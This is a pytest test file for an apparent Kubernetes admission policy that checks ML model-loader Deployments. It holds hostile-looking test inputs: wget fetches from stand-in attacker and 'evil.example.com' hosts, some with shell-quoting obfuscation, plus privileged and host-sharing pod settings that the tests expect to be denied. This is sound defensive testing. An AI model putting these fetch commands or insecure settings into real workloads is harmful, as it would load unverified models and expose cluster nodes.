"""Whole-workload policy: the checks that mutation testing found no test pinned.

Each test here is a promise of `mlseal.admission.workload` that a mutant of the code broke
while the earlier tests still passed (docs/mutation-testing.md, "Scores (2026-12-03,
whole-workload admission)"): a service-link variable on a command line, a downward-API
field resolved from the object, an SELinux user, a projected or downward-API volume a
user writes, the loader's policy directory, the mount the model is written to. Findings
are asserted by their code and the phrases a user acts on (the field, the value shown,
the fix), not by whole messages.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest

from mlseal.admission import Reason
from mlseal.admission.decision import Finding
from mlseal.admission.policy import ImageRule, LoaderRules, Rules
from mlseal.admission.workload import check_workload, kube_expand, remote_location, user_written_sources
from tests.fixtures_admission import LOADER_IMAGE, SERVER_IMAGE, loader
from tests.test_workload import wrap

SHA = "ab" * 32
URI = "s3://models/good/model.joblib"
LOADER = LoaderRules(LOADER_IMAGE)
RULES = Rules(loader=LOADER, images=(ImageRule("registry.example/serving/*"),))
SERVER = "spec.template.spec.containers[0]"
LD = "spec.template.spec.initContainers[0]"


def deployment(**server: Any) -> dict[str, Any]:
    """A Deployment the policy admits (the loader, one server reading its volume), with fields
    of its server container replaced."""
    spec: dict[str, Any] = {
        "initContainers": [loader(URI, SHA)],
        "containers": [{"name": "server", "image": SERVER_IMAGE, "args": ["--model-dir=/mnt/models"],
                        "volumeMounts": [{"name": "model", "mountPath": "/mnt/models", "readOnly": True}]}],
        "volumes": [{"name": "model", "emptyDir": {}}],
    }
    spec["containers"][0].update(server)
    return wrap("Deployment", spec, None)


def spec_of(obj: dict[str, Any]) -> dict[str, Any]:
    s: dict[str, Any] = obj["spec"]["template"]["spec"]
    return s


def server_of(obj: dict[str, Any]) -> dict[str, Any]:
    c: dict[str, Any] = spec_of(obj)["containers"][0]
    return c


def loader_of(obj: dict[str, Any]) -> dict[str, Any]:
    c: dict[str, Any] = spec_of(obj)["initContainers"][0]
    return c


def admitted(obj: dict[str, Any], rules: Rules = RULES) -> None:
    findings, ref = check_workload(obj, rules)
    assert findings == [] and ref is not None, findings


def denied(obj: dict[str, Any], code: Reason, *phrases: str, rules: Rules = RULES) -> Finding:
    """The finding of `code` whose message holds every phrase (one finding says all of them)."""
    findings, _ = check_workload(obj, rules)
    hits = [f for f in findings if f.code is code and all(p in f.message for p in phrases)]
    assert hits, (code, phrases, findings)
    return hits[0]


def test_the_baseline_deployment_is_admitted() -> None:
    admitted(deployment())


# --- service links: variables the kubelet defines for every Service of the namespace ----------

@pytest.mark.parametrize(("arg", "shown"), [
    ("--model=$(MODELS_SERVICE_HOST)/m.onnx", "192.0.2.1/m.onnx"),
    ("--model=models:$(MODELS_SERVICE_PORT_GRPC)/m.onnx", "models:1/m.onnx"),
    ("--model=$(MODELS_PORT_9000_TCP_ADDR):8080/m.onnx", "192.0.2.1:8080/m.onnx"),
    ("--model=$(MODELS_PORT_9000_TCP_PROTO)://models/m.onnx", "tcp://models/m.onnx"),
    ("--model=$(MODELS_PORT)/m.onnx", "tcp://192.0.2.1:1/m.onnx"),
    # also the PORT variable of a Service named models-service: the URL, the more remote reading
    ("--model=$(MODELS_SERVICE_PORT)/m.onnx", "tcp://192.0.2.1:1/m.onnx"),
])
def test_a_service_link_variable_expands_to_another_machine(arg: str, shown: str) -> None:
    """The container does not define these; the kubelet does, with a Service's address."""
    f = denied(deployment(args=[arg]), Reason.MODEL_OVERRIDE, f"{SERVER}.args[0] names the remote location {shown!r}",
               "after expanding its variables")
    if "192.0.2.1" in shown:
        assert "192.0.2.1 stands for an address the kubelet fills in" in f.message


def test_a_variable_the_container_defines_wins_over_the_service_link() -> None:
    admitted(deployment(env=[{"name": "MODELS_SERVICE_HOST", "value": "localhost"}],
                        args=["--health=$(MODELS_SERVICE_HOST):8080/health"]))


def test_an_empty_reference_does_not_swallow_the_next_one() -> None:
    """``$()`` stays as written and the kubelet expands what follows it."""
    assert kube_expand("$()$(A)//attacker/m", {"A": "s3:"}.get) == "$()s3://attacker/m"


# --- the downward API, resolved from the reviewed object ---------------------------------------

def _from_field(path: str) -> dict[str, Any]:
    return {"name": "X", "valueFrom": {"fieldRef": {"fieldPath": path}}}


@pytest.mark.parametrize("path", ["metadata.name", "metadata.namespace", "spec.serviceAccountName",
                                  "metadata.uid", "status.podIP"])
def test_downward_api_names_of_the_pod_are_known(path: str) -> None:
    admitted(deployment(env=[_from_field(path)], args=["--name=$(X)", "--model-dir=/mnt/models"]))


def test_an_annotation_the_pod_does_not_have_expands_to_nothing() -> None:
    """The kubelet gives an empty value; `localhost` stays loopback."""
    admitted(deployment(env=[_from_field("metadata.annotations['suffix']")],
                        args=["--health=http://localhost$(X)/health"]))


@pytest.mark.parametrize("node_name", [None, "worker-1.cluster.example"])
def test_the_node_name_is_another_machine(node_name: str | None) -> None:
    obj = deployment(env=[_from_field("spec.nodeName")], args=["--model=$(X)/m.onnx"])
    if node_name:
        spec_of(obj)["nodeName"] = node_name
    denied(obj, Reason.MODEL_OVERRIDE, f"{SERVER}.args[0] names the remote location")


def test_a_label_and_an_unknown_field_are_hidden_values() -> None:
    obj = deployment(env=[_from_field("metadata.labels['host']")], args=["--model=$(X)"])
    denied(obj, Reason.MODEL_OVERRIDE, f"{SERVER}.args[0]", f"references X, which {SERVER}.env[0] sets from "
           "fieldRef metadata.labels['host'], a label")
    obj = deployment(env=[_from_field("spec.schedulerName")], args=["--model=$(X)"])
    denied(obj, Reason.MODEL_OVERRIDE, f"{SERVER}.args[0]", f"references X, which {SERVER}.env[0] sets from "
           "fieldRef 'spec.schedulerName'", "admission cannot see that value")


# --- locations without a scheme: the edges of a host name ------------------------------------

_LONG_HOST = ".".join(["a" * 63] * 3 + ["e" * 61])  # 253 characters, the longest DNS name


def test_the_longest_host_name_is_a_host() -> None:
    assert len(_LONG_HOST) == 253
    assert remote_location(f"wget {_LONG_HOST}/m") == f"{_LONG_HOST}/m"
    # written fully qualified, with the root's dot: the same name
    assert remote_location(f"wget {_LONG_HOST}./m") == f"{_LONG_HOST}./m"
    longer = ".".join(["a" * 63] * 3 + ["e" * 62])
    assert len(longer) == 254 and remote_location(f"wget {longer}/m") is None  # longer than any DNS name


@pytest.mark.parametrize(("text", "want"), [
    ("wget 192.168.100.200/m", "192.168.100.200/m"),
    ("wget a.1.example.com/m", "a.1.example.com/m"),  # the last label is the top-level domain
    ("serve 1.0.0.rc1/weights", None),  # a version directory, not an address
    ("serve 1.2.3.4444/weights", None),
])
def test_an_ipv4_address_has_four_parts_of_at_most_three_digits(text: str, want: str | None) -> None:
    assert remote_location(text) == want


@pytest.mark.parametrize(("text", "want"), [
    # only an http(s) address can be loopback: an s3:// "host" is a bucket on the configured endpoint
    ("--model=s3://localhost/m.onnx", "s3://localhost/m.onnx"),
    ("--model=grpc://127.0.0.1:9000/m", "grpc://127.0.0.1:9000/m"),
    ("--health=https://127.0.0.1:8443/v2/health", None),
    # a loopback address first does not hide the location after it
    ("curl -sf http://localhost:8080/ready && wget -O /tmp/m s3://attacker/m", "s3://attacker/m"),
    # shown as the shell will fetch it
    ('wget -O /tmp/m ev""il.example.com/m', "evil.example.com/m"),
    ("wget -O /tmp/m ev\\il.example.com/m", "evil.example.com/m"),
])
def test_remote_uri_vectors(text: str, want: str | None) -> None:
    assert remote_location(text) == want


# --- volumes a user writes -------------------------------------------------------------------

@pytest.mark.parametrize(("volume", "kinds"), [
    ({"downwardAPI": {}}, set()),
    ({"downwardAPI": {"items": [{"path": "cpu", "resourceFieldRef": {"resource": "limits.cpu"}},
                                {"path": "m", "fieldRef": {"fieldPath": "metadata.annotations['m']"}}]}},
     {"downwardAPI"}),
    # malformed sources are judged as written by a user, never skipped
    ({"downwardAPI": "m"}, {"downwardAPI"}),
    ({"downwardAPI": {"items": "m"}}, {"downwardAPI"}),
    ({"downwardAPI": {"items": ["m"]}}, {"downwardAPI"}),
    ({"downwardAPI": {"items": [{"path": "m", "fieldRef": "metadata.annotations"}]}}, {"downwardAPI"}),
    ({"projected": "m"}, {"unknown"}),
    ({"projected": {}}, {"unknown"}),
    ({"projected": {"sources": ["m"]}}, {"unknown"}),
    ({"projected": {"sources": [{"clusterTrustBundle": {"signerName": "example.com/ca", "path": "ca.pem"}}]}},
     set()),
    ({"projected": {"sources": [{"downwardAPI": {"items": [
        {"path": "m", "fieldRef": {"fieldPath": "metadata.annotations['m']"}}]}}]}}, {"downwardAPI"}),
    # one projection naming two sources (the API server refuses it): each is judged
    ({"projected": {"sources": [{"serviceAccountToken": {"path": "t"}, "configMap": {"name": "weights"}}]}},
     {"configMap"}),
    ({"projected": {"sources": [{"configMap": {"name": "kube-root-ca.crt",
                                               "items": [{"key": "ca.crt", "path": "ca.crt"}]},
                                 "secret": {"name": "weights"}}]}},
     {"secret"}),
    # kube-root-ca.crt is exempt only as its ca.crt key (a namespace editor can add others)
    ({"projected": {"sources": [{"configMap": {"name": "kube-root-ca.crt"}}]}}, {"configMap"}),
    ({"projected": {"sources": [{"downwardAPI": {"items": []}, "configMap": {"name": "weights"}}]}},
     {"configMap"}),
])
def test_the_sources_a_user_writes(volume: dict[str, Any], kinds: set[str]) -> None:
    assert user_written_sources({"name": "v", **volume}) == kinds


def test_the_policy_may_allow_annotations_through_the_downward_api() -> None:
    annotations = {"items": [{"path": "a", "fieldRef": {"fieldPath": "metadata.annotations"}}]}
    for volume in ({"downwardAPI": annotations}, {"projected": {"sources": [{"downwardAPI": annotations}]}}):
        obj = deployment()
        spec_of(obj)["volumes"].append({"name": "podinfo", **volume})
        server_of(obj)["volumeMounts"].append({"name": "podinfo", "mountPath": "/etc/podinfo", "readOnly": True})
        denied(obj, Reason.MODEL_VOLUME, "volume 'podinfo' (downwardAPI)", "volumes: [downwardAPI]")
        admitted(obj, Rules(loader=LOADER, images=RULES.images, volumes=frozenset({"downwardAPI"})))


# --- the loader's mounts ----------------------------------------------------------------------

def test_the_loader_reads_its_policy_from_the_directory_the_policy_names() -> None:
    obj = deployment()
    spec_of(obj)["volumes"].append({"name": "cfg", "configMap": {"name": "mlseal-loader-policy"}})
    loader_of(obj)["volumeMounts"].append({"name": "cfg", "mountPath": "/srv/mlseal", "readOnly": True})
    elsewhere = Rules(loader=LoaderRules(LOADER_IMAGE, policy="/srv/mlseal/policy.yaml"), images=RULES.images)
    admitted(obj, elsewhere)
    denied(obj, Reason.BAD_LOADER, f"{LD}.volumeMounts[1] mounts volume 'cfg' at /srv/mlseal in the loader",
           "loader.mounts")


@pytest.mark.parametrize("policy", ["/policy.yaml", "//policy.yaml", "/./policy.yaml", "/etc/../policy.yaml"])
def test_a_policy_file_at_the_root_does_not_open_every_directory(policy: str) -> None:
    """Its directory is /: only the file itself may be mounted, not the loader's code."""
    rules = Rules(loader=LoaderRules(LOADER_IMAGE, policy=policy), images=RULES.images)
    obj = deployment()
    spec_of(obj)["volumes"].append({"name": "hooks", "configMap": {"name": "hooks"}})
    loader_of(obj)["volumeMounts"].append({"name": "hooks", "mountPath": "/usr/local/bin", "readOnly": True})
    denied(obj, Reason.BAD_LOADER, "at /usr/local/bin in the loader, outside the places", rules=rules)


@pytest.mark.parametrize(("volume", "mount"), [
    ({"nfs": {"server": "nfs.example", "path": "/models"}}, {"mountPath": "/mnt/pvc", "readOnly": True}),
    ({"persistentVolumeClaim": {"claimName": "models"}}, {"mountPath": "/mnt/pvc"}),
    ({"persistentVolumeClaim": {"claimName": "models"}}, {"mountPath": "/var/run/mlseal/pvc", "readOnly": True}),
])
def test_only_a_read_only_claim_at_the_pvc_root_is_a_loader_source(volume: dict[str, Any],
                                                                   mount: dict[str, Any]) -> None:
    obj = deployment()
    spec_of(obj)["volumes"].append({"name": "src", **volume})
    loader_of(obj)["volumeMounts"].append({"name": "src", **mount})
    denied(obj, Reason.MODEL_VOLUME, "spec.template.spec.volumes[src] is a", "can hold a model the loader never "
           "verified")


# --- the model volume -------------------------------------------------------------------------

def test_the_destination_must_be_an_absolute_path() -> None:
    obj = deployment()
    loader_of(obj)["args"] = [URI, "models"]
    denied(obj, Reason.BAD_LOADER, f"{LD}.args[1] 'models' must be an absolute path")


def test_the_model_may_be_written_below_the_mount() -> None:
    obj = deployment()
    loader_of(obj)["args"] = [URI, "/mnt/models/sklearn"]
    admitted(obj)


def test_the_deepest_mount_over_the_destination_holds_the_model() -> None:
    obj = deployment()
    ld = loader_of(obj)
    ld["args"] = [URI, "/var/run/mlseal/model"]
    spec_of(obj)["volumes"].append({"name": "key", "secret": {"secretName": "loader-key"}})
    ld["volumeMounts"] = [{"name": "key", "mountPath": "/var/run/mlseal", "readOnly": True},
                          {"name": "model", "mountPath": "/var/run/mlseal/model"}]
    admitted(obj)
    other = copy.deepcopy(obj)
    loader_of(other)["volumeMounts"].reverse()
    admitted(other)
    # the model on the secret instead: refused with the volume named
    shallow = copy.deepcopy(obj)
    loader_of(shallow)["volumeMounts"].pop()
    denied(shallow, Reason.MODEL_VOLUME, f"{LD}.volumeMounts[0] puts the model on volume 'key' (secret)",
           "use an emptyDir volume")


def test_a_model_volume_that_is_not_declared_is_named_so() -> None:
    obj = deployment()
    loader_of(obj)["volumeMounts"][0]["name"] = "nowhere"
    denied(obj, Reason.MODEL_VOLUME, "puts the model on volume 'nowhere' (not declared in volumes)")


def test_each_model_volume_finding_has_its_code() -> None:
    obj = deployment()
    server_of(obj)["volumeMounts"][0]["readOnly"] = False
    denied(obj, Reason.MODEL_VOLUME, f"{SERVER}.volumeMounts[0] mounts the model volume 'model' writable in server",
           "set readOnly: true")
    obj = deployment()
    spec_of(obj)["volumes"].append({"name": "scratch", "emptyDir": {}})
    server_of(obj)["volumeMounts"].append({"name": "scratch", "mountPath": "/mnt/models/1"})
    denied(obj, Reason.MODEL_VOLUME, f"{SERVER}.volumeMounts[1] mounts volume 'scratch' at /mnt/models/1, over the "
           "verified model's path")
    obj = deployment()
    server_of(obj)["volumeMounts"] = []
    denied(obj, Reason.MODEL_VOLUME, "no container mounts the model volume 'model'",
           "mount it read-only in the server container")


# --- pod security: the value shown and the fix ------------------------------------------------

POD = "spec.template.spec"


def _sc(**sc: Any) -> dict[str, Any]:
    return deployment(securityContext=sc)


def _pod(**fields: Any) -> dict[str, Any]:
    obj = deployment()
    spec_of(obj).update(fields)
    return obj


def _annotated(key: str, value: str) -> dict[str, Any]:
    obj = deployment()
    obj["spec"]["template"]["metadata"]["annotations"][key] = value
    return obj


_APPARMOR = "container.apparmor.security.beta.kubernetes.io/server"


@pytest.mark.parametrize(("obj", "field", "phrases"), [
    (_sc(privileged=True), f"{SERVER}.securityContext.privileged is true: it has every capability",
     ("remove privileged",)),
    (_sc(allowPrivilegeEscalation=True),
     f"{SERVER}.securityContext.allowPrivilegeEscalation is true: a process may gain more privileges",
     ("set allowPrivilegeEscalation: false",)),
    (_sc(capabilities={"add": ["NET_BIND_SERVICE", "CAP_CHOWN", "kill", "SYS_ADMIN"]}),
     f"{SERVER}.securityContext.capabilities.add is ['SYS_ADMIN']: it adds capabilities beyond the runtime's defaults",
     ("add only NET_BIND_SERVICE and the runtime defaults",)),
    (_sc(procMount="Unmasked"), f"{SERVER}.securityContext.procMount is 'Unmasked': it unmasks /proc",
     ("use procMount: Default",)),
    (_sc(seccompProfile={"type": "Unconfined"}), f"{SERVER}.securityContext.seccompProfile.type is 'Unconfined'",
     ("it runs without a seccomp filter", "use type RuntimeDefault or Localhost")),
    (_sc(appArmorProfile={"type": "Unconfined"}), f"{SERVER}.securityContext.appArmorProfile.type is 'Unconfined'",
     ("it runs without an AppArmor profile", "use type RuntimeDefault or Localhost")),
    (_sc(seLinuxOptions={"type": "spc_t"}), f"{SERVER}.securityContext.seLinuxOptions is {{'type': 'spc_t'}}",
     ("it sets a custom SELinux type, user or role", "a type of container_t")),
    (_sc(seLinuxOptions={"user": "system_u"}), f"{SERVER}.securityContext.seLinuxOptions is {{'user': 'system_u'}}",
     ("set no user or role",)),
    (_sc(seLinuxOptions={"role": "sysadm_r"}), f"{SERVER}.securityContext.seLinuxOptions is {{'role': 'sysadm_r'}}",
     ("set no user or role",)),
    (_sc(windowsOptions={"hostProcess": True}), f"{SERVER}.securityContext.windowsOptions.hostProcess is true",
     ("it runs as a process on the host", "remove hostProcess")),
    (deployment(ports=[{"containerPort": 8080}, {"containerPort": 9000, "hostPort": 9000}]),
     f"{SERVER}.ports[1].hostPort is 9000: it listens on the node's network", ("remove hostPort",)),
    (_pod(hostNetwork=True), f"{POD}.hostNetwork is true: the pod shares the node's network", ("remove hostNetwork",)),
    (_pod(hostPID=True), f"{POD}.hostPID is true: the pod shares the node's processes", ("remove hostPID",)),
    (_pod(hostIPC=True), f"{POD}.hostIPC is true: the pod shares the node's IPC", ("remove hostIPC",)),
    (_pod(securityContext={"seccompProfile": {"type": "Unconfined"}}),
     f"{POD}.securityContext.seccompProfile.type is 'Unconfined'", ("use type RuntimeDefault or Localhost",)),
    (_pod(securityContext={"sysctls": [{"name": "net.ipv4.tcp_syncookies", "value": "1"},
                                       {"name": "kernel.msgmax", "value": "65536"}]}),
     f"{POD}.securityContext.sysctls[1] is 'kernel.msgmax'",
     ("not one of the safe, namespaced sysctls", "; remove it")),
    (_pod(volumes=[{"name": "model", "emptyDir": {}}, {"name": "node", "hostPath": {"path": "/"}}]),
     f"{POD}.volumes[node] is a hostPath volume: it mounts a path of the node", ("use an emptyDir",)),
    (_annotated(_APPARMOR, "unconfined"), f"{POD.removesuffix('.spec')}.metadata.annotations[{_APPARMOR}] is "
     "'unconfined': it runs without an AppArmor profile", ("use runtime/default or localhost/<profile>",)),
])
def test_pod_security_findings_show_the_value_and_the_fix(obj: dict[str, Any], field: str,
                                                          phrases: tuple[str, ...]) -> None:
    denied(obj, Reason.POD_SECURITY, field, "Pod Security baseline", *phrases)


def test_what_the_baseline_allows_is_admitted() -> None:
    admitted(_sc(privileged=False, allowPrivilegeEscalation=False, capabilities={"add": ["cap_chown", "KILL"]},
                 procMount="Default", windowsOptions={"hostProcess": False}))
    admitted(_annotated(_APPARMOR, "localhost/model-server"))
    admitted(_pod(hostNetwork=False, securityContext={"sysctls": []}))


@pytest.mark.parametrize(("obj", "field", "what"), [
    (_sc(seccompProfile="Unconfined"), f"{SERVER}.securityContext.seccompProfile", "an object"),
    (_sc(appArmorProfile="Unconfined"), f"{SERVER}.securityContext.appArmorProfile", "an object"),
    (_sc(seLinuxOptions="spc_t"), f"{SERVER}.securityContext.seLinuxOptions", "an object"),
    (_sc(windowsOptions="hostProcess"), f"{SERVER}.securityContext.windowsOptions", "an object"),
    (_sc(capabilities="SYS_ADMIN"), f"{SERVER}.securityContext.capabilities", "an object"),
    (_sc(capabilities={"add": "SYS_ADMIN"}), f"{SERVER}.securityContext.capabilities.add", "a list"),
    (deployment(securityContext="privileged"), f"{SERVER}.securityContext", "an object"),
    (deployment(ports={"hostPort": 80}), f"{SERVER}.ports", "a list"),
    (deployment(ports=[80]), f"{SERVER}.ports[0]", "an object"),
    (_pod(securityContext="privileged"), f"{POD}.securityContext", "an object"),
    (_pod(securityContext={"sysctls": "kernel.msgmax"}), f"{POD}.securityContext.sysctls", "a list"),
    (_pod(securityContext={"sysctls": ["kernel.msgmax"]}), f"{POD}.securityContext.sysctls[0]", "an object"),
])
def test_a_malformed_security_field_is_named(obj: dict[str, Any], field: str, what: str) -> None:
    findings, ref = check_workload(obj, RULES)
    assert ref is None and [f.code for f in findings] == [Reason.MALFORMED], findings
    assert f"{field} must be {what}" in findings[0].message


# --- the loader -------------------------------------------------------------------------------

def test_a_policy_without_a_loader_admits_no_loader() -> None:
    denied(deployment(), Reason.BAD_LOADER, f"{LD} is a model loader but the policy names no loader image",
           "set loader: {image: REPO@sha256:DIGEST} in the policy", rules=Rules(images=RULES.images))


def test_a_hidden_value_in_the_loaders_args_is_denied() -> None:
    obj = deployment()
    ld = loader_of(obj)
    ld["env"].append({"name": "MLSEAL_LEDGER", "valueFrom": {"secretKeyRef": {"name": "ledger", "key": "url"}}})
    ld["args"] += ["--record", "--ledger=$(MLSEAL_LEDGER)"]
    denied(obj, Reason.BAD_LOADER, f"{LD}.args[3] (container 'mlseal-fetch') references MLSEAL_LEDGER, which "
           f"{LD}.env[1] sets from valueFrom.secretKeyRef")


@pytest.mark.parametrize("args", [[URI], ["--json", URI, "/mnt/models"], [URI, "--record", "/mnt/models"]])
def test_the_loader_takes_the_model_and_its_destination_first(args: list[str]) -> None:
    obj = deployment()
    loader_of(obj)["args"] = args
    denied(obj, Reason.BAD_LOADER, f"{LD}.args is", "the loader takes [MODEL_URI, DEST_DIR, flags...]")


def test_every_loader_flag_is_judged() -> None:
    obj = deployment()
    loader_of(obj)["args"] += ["--record", "--no-verify"]
    denied(obj, Reason.BAD_LOADER, f"{LD}.args[3] '--no-verify' is not a loader flag mlseal admits")
    obj = deployment()
    loader_of(obj)["args"] += ["--json", "--policy=/tmp/lenient.yaml"]
    denied(obj, Reason.BAD_LOADER, f"{LD}.args[3] points the loader at policy '/tmp/lenient.yaml'")


def test_a_flag_without_its_value_is_judged_as_empty() -> None:
    obj = deployment()
    loader_of(obj)["args"] += ["--policy"]
    denied(obj, Reason.BAD_LOADER, f"{LD}.args[2] points the loader at policy '', not the admission policy "
           "/etc/mlseal/policy.yaml")
    obj = deployment()
    loader_of(obj)["args"] += ["--sha256"]
    findings, ref = check_workload(obj, RULES)
    assert ref is None and [f.code for f in findings] == [Reason.MALFORMED], findings
    assert f"{LD}.args[2] must be the model's sha256" in findings[0].message


def test_a_loader_without_a_digest_names_where_to_put_it() -> None:
    obj = deployment()
    loader_of(obj)["env"] = []
    denied(obj, Reason.NO_MODEL, f"{LD} is given no model digest", "MLSEAL_MODEL_SHA256")


def test_a_malformed_digest_names_its_field() -> None:
    obj = deployment()
    loader_of(obj)["env"][0]["value"] = "abc"
    findings, _ = check_workload(obj, RULES)
    assert [f.code for f in findings] == [Reason.MALFORMED], findings
    assert f"{LD}.env[0] must be the model's sha256" in findings[0].message


def test_two_digests_name_both_fields() -> None:
    obj = deployment()
    loader_of(obj)["args"] += ["--sha256", "cd" * 32]
    denied(obj, Reason.MALFORMED, "more than one model digest", f"{LD}.args[2]=cdcdcdcdcdcdcdcd",
           f"{LD}.env[0]=abababababababab")


@pytest.mark.parametrize("on_template", [True, False])
def test_the_uri_annotation_must_name_what_the_loader_fetches(on_template: bool) -> None:
    def annotated(uri: str) -> dict[str, Any]:
        obj = deployment()
        meta = obj["spec"]["template"]["metadata"] if on_template else obj["metadata"]
        meta.setdefault("annotations", {})["mlseal.dev/model-uri"] = uri
        return obj

    denied(annotated("s3://models/other/model.joblib"), Reason.URI_MISMATCH,
           "annotation mlseal.dev/model-uri 's3://models/other/model.joblib' differs from what the loader fetches",
           f"{LD}.args[0] 's3://models/good/model.joblib'")
    admitted(annotated(URI + "/"))  # a trailing slash names the same object
    src_slash = annotated(URI)
    loader_of(src_slash)["args"][0] = URI + "/"
    admitted(src_slash)


def test_the_model_is_the_loaders_source_and_digest_in_the_workloads_name() -> None:
    findings, ref = check_workload(deployment(), RULES)
    assert findings == [] and ref is not None
    assert (ref.kind, ref.name, ref.namespace, ref.sha256, ref.uri, ref.where) == (
        "Deployment", "s", "prod", SHA, URI, f"{LD}.args[0]")
